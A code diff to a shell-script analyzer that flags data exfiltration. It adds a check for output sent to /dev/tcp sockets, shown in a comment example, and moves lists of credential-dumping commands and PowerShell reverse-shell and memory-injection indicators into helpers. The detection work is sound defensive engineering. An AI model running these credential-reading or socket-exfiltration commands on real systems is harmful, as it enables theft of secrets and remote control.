@@ -477,6 +477,13 @@ void Analysis::Redirects(std::uint32_t index, std::string_view program, const Ta
       }
       continue;
     }
+    // exec 3<>/dev/tcp/h/p; gzip -c "$log" >&3
+    if (op == ">&" && word.text.size() == 1 && word.text[0] >= '3' && word.text[0] <= '9' && !socket_.empty() &&
+        !IsShell(program)) {
+      Taint taint = out_[index];
+      taint.Merge(input);
+      if (taint.any()) Sends(index, socket_.substr(0, socket_.find('/')), socket_, taint, false);
+    }
     if (op == ">&" && word.text.size() <= 2) continue;
     if (!content_known) {
       content_known = true;
@@ -586,30 +593,10 @@ void Analysis::Output(std::uint32_t index, std::string_view program, const Taint
     }
     return;
   }
-  if ((program == "gh" && word(1) == "auth" && word(2) == "token") ||
-      (program == "gcloud" && word(1) == "auth" && word(2).starts_with("print-")) ||
-      (program == "aws" && Is(word(1), {"sts", "ecr"}) &&
-       (word(2).starts_with("get-") || word(2).starts_with("assume-")) && word(2) != "get-caller-identity") ||
-      (program == "az" && word(1) == "account" && word(2) == "get-access-token")) {
+  if (AsksToken(command, program)) {
     return token(program);
   }
-  if ((program == "security" && HasOneOf(word(1), {"find-generic", "find-internet", "dump-keychain", "export"})) ||
-      (program == "gpg" && HasFlag(command, {"--export-secret-keys", "--export-secret-key"})) ||
-      (program == "aws" && word(1) == "configure" && (word(2) == "get" || word(2) == "export-credentials")) ||
-      (program == "kubectl" && word(1) == "config" && word(2) == "view" && HasFlag(command, {"--raw"})) ||
-      (program == "kubectl" && Is(word(1), {"get"}) && Is(word(2), {"secret", "secrets"}) &&
-       HasFlag(command, {"-o", "-ojson", "-oyaml", "--output"})) ||
-      (program == "git" && word(1) == "credential" && word(2) == "fill") ||
-      (program == "op" && (word(1) == "read" || word(1) == "item")) ||
-      (program == "bw" && Is(word(1), {"get", "list", "export"})) ||
-      (Is(program, {"lpass", "keepassxc-cli"}) && Is(word(1), {"show", "export"})) ||
-      (program == "aws" && word(2) == "get-secret-value") ||
-      (program == "gcloud" && word(1) == "secrets" && HasFlag(command, {"access"})) ||
-      (program == "az" && word(1) == "keyvault" && word(2) == "secret") ||
-      (program == "sops" && HasFlag(command, {"-d", "--decrypt"})) || (program == "pass" && word(1) == "show") ||
-      (program == "vault" && (word(1) == "kv" || word(1) == "read")) || (program == "docker" && word(1) == "secret") ||
-      (program == "heroku" && word(1) == "auth:token") || (program == "npm" && word(1) == "token") ||
-      (program == "doctl" && word(1) == "auth") || (program == "secret-tool" && word(1) == "lookup")) {
+  if (AsksStore(command, program)) {
     out.secret = true;
     out.what = std::string(program) + " " + word(1);
     out.secret_loc = command.loc;
@@ -745,35 +732,8 @@ void Analysis::Output(std::uint32_t index, std::string_view program, const Taint
 
 std::vector<ShellUse> AnalyzeShellScript(const ShellScript& script, std::string_view text, bool* all) {
   std::vector<ShellUse> uses = shell::Analysis(script, text).Run(all);
-  if (script.dialect == ShellDialect::kPowerShell && !script.commands.empty()) {
-    // Functions of the system's library by their names: memory that is made, filled and run.
-    const auto says = [&](std::string_view word) { return text.find(word) != std::string_view::npos; };
-    const bool makes = says("VirtualAlloc") || says("VirtualProtect") || says("NtAllocateVirtualMemory");
-    const bool fills = says("Marshal]::Copy") || says("WriteProcessMemory") || says("RtlMoveMemory");
-    const bool runs = says("CreateThread") || says("CreateRemoteThread") || says("QueueUserAPC") ||
-                      says("GetDelegateForFunctionPointer");
-    const std::string lower = LowerCase(text.substr(0, std::size_t{256} << 10U));
-    const auto tells = [&](std::string_view word) { return lower.find(word) != std::string::npos; };
-    // A client's stream is read, what it brings is run, and what that says is written back.
-    if (tells("sockets.tcpclient") && tells(".getstream(") && tells(".read") && tells(".write") &&
-        (tells("iex ") || tells("iex(") || tells("invoke-expression") || tells("[scriptblock]::create") ||
-         tells("process]::start") || tells("start-process"))) {
-      ShellUse use;
-      use.act = ShellAct::kReverseShell;
-      use.loc = script.commands.front().loc;
-      use.detail = "a socket";
-      use.gravity = 2;
-      uses.push_back(std::move(use));
-    }
-    if (makes && fills && runs) {
-      ShellUse use;
-      use.act = ShellAct::kInject;
-      use.loc = script.commands.front().loc;
-      use.detail = "machine code is written to memory and run";
-      use.gravity = 2;
-      uses.push_back(std::move(use));
-    }
-  }
+  if (script.dialect == ShellDialect::kPowerShell && !script.commands.empty())
+    shell::JudgeWholePowerShell(script, text, uses);
   return uses;
 }
 
